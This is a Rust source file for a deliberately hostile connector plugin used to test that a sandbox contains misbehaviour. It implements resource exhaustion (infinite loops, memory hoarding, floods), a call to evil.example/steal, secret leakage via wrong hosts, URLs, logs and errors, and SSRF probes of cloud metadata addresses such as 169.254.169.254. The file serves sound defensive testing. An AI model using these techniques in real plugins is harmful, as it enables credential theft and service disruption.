//! A hostile connector: each `attack` value misbehaves in one way the
//! sandbox must contain. Built from source by the test run.

use ward_sdk::http::Request;
use ward_sdk::{
    Actor, ActorKind, AuditPage, Config, Connector, Credentials, Error, Event, Grant, Outcome,
    Result, TestReport, UserPage, secret_ref,
};

struct Hostile;

fn event(id: String, raw: String) -> Event {
    Event {
        id,
        time: 0,
        action: "hostile".into(),
        actor: Actor {
            id: None,
            kind: ActorKind::Unknown,
            name: None,
            email: None,
        },
        targets: Vec::new(),
        ip: None,
        user_agent: None,
        outcome: Outcome::Unknown,
        raw,
    }
}

#[inline(never)]
#[allow(unconditional_recursion)]
fn recurse(depth: u64, pad: &mut [u8; 256]) -> u64 {
    pad[(depth % 256) as usize] = depth as u8;
    let mut next = [0u8; 256];
    next[0] = pad[0];
    recurse(depth + 1, &mut next) + u64::from(pad[1])
}

/// Reads the value the echo endpoint reflects for our authorization header.
fn learn_secret() -> Result<String> {
    let response = Request::get("https://echo.ward.test/reflect")
        .header("authorization", secret_ref("api_token"))
        .send()?;
    let value = response.text();
    Ok(value.trim().to_string())
}

impl Connector for Hostile {
    fn exchange(_config: &Config, grant: Grant) -> Result<Credentials> {
        match grant {
            Grant::ApiToken(token) => Credentials::from_token("api_token", &token),
            _ => Err(Error::invalid_config("token only")),
        }
    }

    fn test(_config: &Config) -> Result<TestReport> {
        Ok(TestReport {
            checks: Vec::new(),
            account_name: None,
            principal: None,
        })
    }

    fn fetch_audit(config: &Config, _since: i64, _cursor: Option<String>) -> Result<AuditPage> {
        let attack = config.require("attack")?;
        let page = |events: Vec<Event>, cursor: String| AuditPage {
            events,
            cursor,
            more: false,
        };
        match attack {
            "benign" => Ok(page(vec![event("ok-1".into(), "{}".into())], "c1".into())),
            "loop" => {
                let mut x: u64 = 0;
                loop {
                    x = std::hint::black_box(x.wrapping_mul(6364136223846793005).wrapping_add(1));
                }
            }
            "alloc" => {
                let mut hoard: Vec<Vec<u8>> = Vec::new();
                loop {
                    hoard.push(vec![1u8; 1 << 20]);
                    std::hint::black_box(&hoard);
                }
            }
            "recursion" => {
                let mut pad = [0u8; 256];
                let n = recurse(0, &mut pad);
                Ok(page(Vec::new(), n.to_string()))
            }
            "outside" => {
                Request::get("https://evil.example/steal").send()?;
                Ok(page(Vec::new(), "unreachable".into()))
            }
            "wrong-method" => {
                let domain = config.require("domain")?;
                Request::post(format!("https://{domain}.okta.com/api/v1/logs"))
                    .header("authorization", format!("SSWS {}", secret_ref("api_token")))
                    .send()?;
                Ok(page(Vec::new(), "unreachable".into()))
            }
            "wrong-path" => {
                let domain = config.require("domain")?;
                Request::get(format!("https://{domain}.okta.com/oauth2/v1/clients"))
                    .header("authorization", format!("SSWS {}", secret_ref("api_token")))
                    .send()?;
                Ok(page(Vec::new(), "unreachable".into()))
            }
            "secret-wrong-host" => {
                Request::get("https://collector.ward.test/collect")
                    .header(
                        "authorization",
                        format!("Bearer {}", secret_ref("api_token")),
                    )
                    .send()?;
                Ok(page(Vec::new(), "unreachable".into()))
            }
            "secret-in-url" => {
                let domain = config.require("domain")?;
                Request::get(format!(
                    "https://{domain}.okta.com/api/v1/logs?token={}",
                    secret_ref("api_token")
                ))
                .send()?;
                Ok(page(Vec::new(), "unreachable".into()))
            }
            "private-dns" => {
                Request::get("https://localhost/latest/meta-data/").send()?;
                Ok(page(Vec::new(), "unreachable".into()))
            }
            "metadata-dns" => {
                Request::get("https://metadata.ward.test/latest/meta-data/").send()?;
                Ok(page(Vec::new(), "unreachable".into()))
            }
            "mapped-dns" => {
                Request::get("https://mapped.ward.test/latest/meta-data/").send()?;
                Ok(page(Vec::new(), "unreachable".into()))
            }
            "loopback-dns" => {
                Request::get("https://loopback.ward.test/admin").send()?;
                Ok(page(Vec::new(), "unreachable".into()))
            }
            "redirect" => {
                // The host hands the 3xx back; following it is the plugin's
                // choice, and the target must be granted like any other URL.
                let first = Request::get("https://collector.ward.test/redirect").send()?;
                let location = first.header("location").unwrap_or_default().to_string();
                let status = first.status;
                let followed = Request::get(location).send();
                Ok(page(Vec::new(), format!("{status} {followed:?}")))
            }
            // Waits on a provider that answers only when the test lets it
            // (the test grants `stall.ward.test` in a rewritten manifest).
            "stall" => {
                Request::get("https://stall.ward.test/hang/now").send()?;
                Ok(page(Vec::new(), "stalled".into()))
            }
            "big-response" => {
                Request::get("https://collector.ward.test/big").send()?;
                Ok(page(Vec::new(), "unreachable".into()))
            }
            "request-flood" => {
                for _ in 0..100 {
                    Request::get("https://collector.ward.test/ping").send()?;
                }
                Ok(page(Vec::new(), "flooded".into()))
            }
            "echo-secret" => {
                let secret = learn_secret()?;
                ward_sdk::log::warn(&format!("stolen: {secret}"));
                println!("stdout: {secret}");
                Ok(page(
                    vec![event(
                        format!("ev-{secret}"),
                        format!("{{\"token\":\"{secret}\"}}"),
                    )],
                    format!("cursor-{secret}"),
                ))
            }
            "echo-secret-error" => {
                let secret = learn_secret()?;
                Err(Error::internal(format!("failed with token {secret}")))
            }
            "oversized" => {
                let events = (0..2000)
                    .map(|i| event(format!("ev-{i}"), "{}".into()))
                    .collect();
                Ok(page(events, "c".into()))
            }
            "stdout-flood" => {
                let line = "x".repeat(1024);
                for _ in 0..100_000 {
                    println!("{line}");
                }
                Ok(page(Vec::new(), "c".into()))
            }
            "metadata-ip" => {
                Request::get("http://169.254.169.254/latest/meta-data/").send()?;
                Ok(page(Vec::new(), "unreachable".into()))
            }
            "metadata-mapped" => {
                Request::get("http://[::ffff:169.254.169.254]/latest/meta-data/").send()?;
                Ok(page(Vec::new(), "unreachable".into()))
            }
            "header-flood" => {
                let mut request = Request::get("https://collector.ward.test/headers");
                for i in 0..200 {
                    request = request.header(&format!("x-flood-{i}"), "y".repeat(100));
                }
                request.send()?;
                Ok(page(Vec::new(), "unreachable".into()))
            }
            "response-headers" => {
                Request::get("https://collector.ward.test/many-headers").send()?;
                Ok(page(Vec::new(), "unreachable".into()))
            }
            "policy-path" => {
                Request::get("https://collector.ward.test/admin/users").send()?;
                Ok(page(Vec::new(), "unreachable".into()))
            }
            "policy-secret" => {
                Request::get("https://echo.ward.test/reflect")
                    .header("authorization", secret_ref("api_token"))
                    .send()?;
                Ok(page(Vec::new(), "unreachable".into()))
            }
            "oversized-bytes" => {
                let raw = format!("\"{}\"", "z".repeat(2 << 20));
                Ok(page(vec![event("big".into(), raw)], "c".into()))
            }
            "trap" => std::process::abort(),
            other => Err(Error::invalid_config(format!("unknown attack {other}"))),
        }
    }

    fn fetch_users(_config: &Config, _cursor: Option<String>) -> Result<UserPage> {
        Ok(UserPage {
            users: Vec::new(),
            cursor: None,
            more: false,
        })
    }
}

ward_sdk::export_connector!(Hostile);
